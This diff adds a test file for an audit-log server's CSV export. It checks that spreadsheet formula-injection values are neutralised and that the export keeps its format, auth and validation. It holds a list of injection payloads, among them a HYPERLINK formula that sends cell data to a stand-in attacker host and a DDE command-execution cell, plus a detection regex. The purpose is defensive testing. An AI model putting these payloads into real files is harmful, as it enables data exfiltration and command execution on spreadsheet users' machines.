@@ -1,0 +1,304 @@
+// CSV exports through the real server: hostile cells are neutralised for
+// spreadsheets (read back as a spreadsheet would: parsed, and converted by
+// LibreOffice headless when it is installed), every other value round-trips.
+import { spawnSync } from 'node:child_process';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { StoredEvent } from '@logproof/core';
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  CSV_COLUMNS,
+  csvLine,
+  describeCsvColumns,
+  neutraliseCsvCell,
+  restoreCsvCell,
+} from '../src/exports/csv.js';
+import {
+  exportEvents,
+  hasCommand,
+  openExportApp,
+  seedOrg,
+  type ExportApp,
+} from './helpers/export-app.js';
+import { expectProblem, postJson } from './helpers/http-app.js';
+
+/** Values that a spreadsheet would run, split or show as something else. */
+const HOSTILE = [
+  '=1+1',
+  '=HYPERLINK("http://attacker.example/?x="&A1,"click me")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u3000+1',
+  '\uff1d1+1', // full-width =
+  '\uff0b1', // full-width +
+  '\uff0d1', // full-width -
+  '\uff20SUM(1)', // full-width @
+  '\ufe66SUM(1)', // small =
+  "'=1+1", // looks already escaped: must come back as sent
+  "''+1",
+];
+
+/** NUL never reaches the log (the event schema refuses it), but the CSV writer would neutralise it too. */
+const NEVER_STORED = ['\u0000=1+1'];
+
+/** Values that are only awkward for a CSV writer: commas, quotes, line breaks, scripts. */
+const AWKWARD = [
+  'Ada, Countess of Lovelace',
+  'She said "hi"',
+  'two\r\nlines',
+  'Σωκράτης',
+  'Пётр Чайковский',
+  '李小龍',
+  '김민준',
+  'Zoë 😀🎉',
+  "O'Brien",
+  '1e5',
+  '0012',
+];
+
+/**
+ * What a spreadsheet evaluates or splits on (OWASP CSV Injection), written
+ * out here independently of the implementation: the first character after
+ * spaces is = + - @ tab CR LF NUL or a full-width or small form of = + - @.
+ */
+/* eslint-disable no-control-regex -- tab, CR, LF and NUL are what is looked for */
+const FORMULA_START =
+  /^[ \u00a0\u3000\u2000-\u200b\ufeff]*[=+\-@\t\r\n\u0000\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
+/* eslint-enable no-control-regex */
+
+function cellsOf(text: string): string[][] {
+  // A spreadsheet's reading: RFC 4180 with the UTF-8 BOM, where a CR or LF
+  // outside quotes ends the row whatever the file's own line ends are.
+  return parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
+}
+
+describe('neutraliseCsvCell', () => {
+  it('leaves every ordinary value as it is', () => {
+    for (const value of [...AWKWARD, '', 'user.login', 'a=b', "'", "'hello"]) {
+      expect(neutraliseCsvCell(value)).toBe(value);
+    }
+  });
+
+  it('prefixes an apostrophe to every value a spreadsheet could run, and restoreCsvCell undoes it', () => {
+    for (const value of [...HOSTILE, ...NEVER_STORED]) {
+      const cell = neutraliseCsvCell(value);
+      expect(cell, JSON.stringify(value)).toBe(`'${value}`);
+      expect(FORMULA_START.test(cell)).toBe(false);
+      expect(restoreCsvCell(cell)).toBe(value);
+    }
+    for (const value of [...AWKWARD, "'", "'hello"])
+      expect(restoreCsvCell(neutraliseCsvCell(value))).toBe(value);
+  });
+});
+
+describe('csvLine', () => {
+  it('writes what csv-stringify writes (CRLF, quoting, escape_formulas), byte for byte', () => {
+    const values = [...HOSTILE, ...NEVER_STORED, ...AWKWARD, '', 'plain', 'a"b', 'x\ny', 'z\r'];
+    const rows = values.map((v, i) => [
+      neutraliseCsvCell(v),
+      String(i),
+      '',
+      neutraliseCsvCell(`${v}${v}`),
+    ]);
+    const expected = stringify(rows, {
+      record_delimiter: 'windows',
+      quote_record_delimiter: true,
+      escape_formulas: true,
+    });
+    expect(rows.map(csvLine).join('')).toBe(expected);
+  });
+});
+
+describe('GET /v1/events/export?format=csv', () => {
+  let t: ExportApp;
+  let events: StoredEvent[];
+  let csv: string;
+  let raw: Buffer;
+
+  beforeAll(async () => {
+    t = await openExportApp('sqlite');
+    const values = [...HOSTILE, ...AWKWARD];
+    const seeded = await seedOrg(
+      t,
+      'acme',
+      values.map((value, i) => ({
+        action: 'user.login',
+        actor: {
+          id: value === '' ? 'x' : value,
+          name: value,
+          type: i % 3 === 0 ? 'service' : 'user',
+        },
+        targets: [{ id: `doc_${i}`, type: 'document', name: value }],
+        description: value,
+        metadata: { note: value, n: -i },
+        context: { user_agent: value, request_id: value },
+      })),
+    );
+    events = seeded.events;
+    const res = await exportEvents(t, { format: 'csv', org: 'acme' });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
+    expect(String(res.headers['content-disposition'])).toMatch(
+      /^attachment; filename="logproof-acme-\d{8}T\d{6}Z\.csv"$/,
+    );
+    raw = res.rawPayload;
+    csv = raw.toString('utf8');
+  });
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  it('is UTF-8 with a BOM and CRLF line ends, one row per event under the documented header', () => {
+    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(csv.slice(1, csv.indexOf('\r\n'))).toBe(CSV_COLUMNS.map((c) => c.name).join(','));
+    expect(csv.endsWith('\r\n')).toBe(true);
+    const rows = cellsOf(csv);
+    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
+    expect(rows).toHaveLength(events.length + 1);
+  });
+
+  it('has no cell a spreadsheet would evaluate', () => {
+    for (const row of cellsOf(csv)) {
+      for (const cell of row) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
+    }
+  });
+
+  it('gives every value back, hostile ones once their one leading apostrophe is dropped', () => {
+    const rows = cellsOf(csv).slice(1);
+    const column = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
+    rows.forEach((row, i) => {
+      const e = events[i]!;
+      const value = (name: string) => restoreCsvCell(row[column(name)]!);
+      expect(value('id')).toBe(e.id);
+      expect(value('chain_index')).toBe(String(e.chain_index));
+      expect(value('actor_id')).toBe(e.actor.id);
+      expect(value('actor_name')).toBe(e.actor.name);
+      expect(value('actor_type')).toBe(e.actor.type);
+      expect(value('description')).toBe(e.description);
+      expect(value('context_user_agent')).toBe(e.context.user_agent);
+      expect(value('context_request_id')).toBe(e.context.request_id);
+      expect(JSON.parse(value('targets'))).toEqual(e.targets);
+      expect(JSON.parse(value('metadata'))).toEqual(e.metadata);
+      expect(value('hash')).toBe(e.hash);
+      expect(value('signature')).toBe(e.signature);
+      expect(value('key_id')).toBe(e.key_id);
+      // Cells that were not hostile are exactly the value, with no apostrophe.
+      if (!HOSTILE.includes(e.actor.name!)) expect(row[column('actor_name')]).toBe(e.actor.name);
+      else expect(row[column('actor_name')]).toBe(`'${e.actor.name!}`);
+    });
+  });
+
+  it('documents the column order in the OpenAPI description', async () => {
+    const doc = (await t.app.inject({ method: 'GET', url: '/openapi.json' })).json<{
+      paths: Record<
+        string,
+        {
+          get?: {
+            parameters: Array<{
+              name: string;
+              description?: string;
+              schema: { description?: string };
+            }>;
+          };
+        }
+      >;
+    }>();
+    const format = doc.paths['/v1/events/export']!.get!.parameters.find(
+      (p) => p.name === 'format',
+    )!;
+    const text = format.description ?? format.schema.description ?? '';
+    expect(text).toContain(describeCsvColumns());
+    expect(describeCsvColumns()).toMatch(/^1\. `id` .*; 25\. `signature` /);
+  });
+
+  it('exports an empty selection as the header alone', async () => {
+    const res = await exportEvents(t, { format: 'csv', org: 'acme', action: 'never.happened' });
+    expect(res.statusCode).toBe(200);
+    expect(cellsOf(res.body)).toEqual([CSV_COLUMNS.map((c) => c.name)]);
+  });
+
+  it('refuses what GET /v1/events refuses, naming the parameter', async () => {
+    expectProblem(
+      await exportEvents(t, { format: 'csv', q: 'action:(' }),
+      400,
+      'validation_failed',
+      ['/q'],
+    );
+    expectProblem(await exportEvents(t, { format: 'xlsx' }), 400, 'validation_failed', ['/format']);
+    expectProblem(await exportEvents(t, { format: 'csv', limit: 5 }), 400, 'validation_failed', [
+      '/limit',
+    ]);
+    expectProblem(await exportEvents(t, { format: 'csv', org: 'nope' }), 404, 'not_found', [
+      '/org',
+    ]);
+    expectProblem(await exportEvents(t, { org: 'acme' }), 400, 'validation_failed');
+  });
+
+  it('needs the admin scope (API.md: exports are admin)', async () => {
+    for (const scopes of [['events:write'], ['events:read']]) {
+      const key = await postJson(t.app, t.apiKey, '/v1/api-keys', { name: 'not admin', scopes });
+      expect(key.statusCode).toBe(201);
+      expectProblem(
+        await exportEvents(t, { format: 'csv' }, key.json<{ secret: string }>().secret),
+        403,
+        'forbidden',
+      );
+    }
+    const unauthenticated = await t.app.inject({
+      method: 'GET',
+      url: '/v1/events/export?format=csv',
+    });
+    expectProblem(unauthenticated, 401, 'unauthorized');
+  });
+
+  const soffice = hasCommand('soffice');
+  it.skipIf(!soffice)(
+    'opened by LibreOffice (formulas evaluated on import), runs nothing',
+    async () => {
+      const dir = await mkdtemp(join(tmpdir(), 'logproof-csv-lo-'));
+      try {
+        await writeFile(join(dir, 'export.csv'), raw);
+        // The control proves the conversion would show a formula: the same
+        // values without neutralisation do become formulas.
+        const control = ['\ufeffa,b', '=1+1,=SUM(1;2)', ''].join('\r\n');
+        await writeFile(join(dir, 'control.csv'), control);
+        const result = spawnSync(
+          'soffice',
+          [
+            `-env:UserInstallation=file://${join(dir, 'profile')}`,
+            '--headless',
+            '--infilter=CSV:44,34,76,1',
+            '--convert-to',
+            'fods',
+            '--outdir',
+            dir,
+            join(dir, 'control.csv'),
+            join(dir, 'export.csv'),
+          ],
+          { encoding: 'utf8', timeout: 120_000 },
+        );
+        expect(result.status, result.stderr).toBe(0);
+        const controlXml = await readFile(join(dir, 'control.fods'), 'utf8');
+        expect(controlXml).toMatch(/table:formula="of:=1\+1"/);
+        const xml = await readFile(join(dir, 'export.fods'), 'utf8');
+        expect(xml).not.toMatch(/table:formula=/);
+        // Every hostile name is there as text, behind its apostrophe.
+        expect(xml).toContain('&apos;=1+1');
+        expect(xml).toContain('&apos;@SUM(1,1)');
+      } finally {
+        await rm(dir, { recursive: true, force: true });
+      }
+    },
+    180_000,
+  );
+});
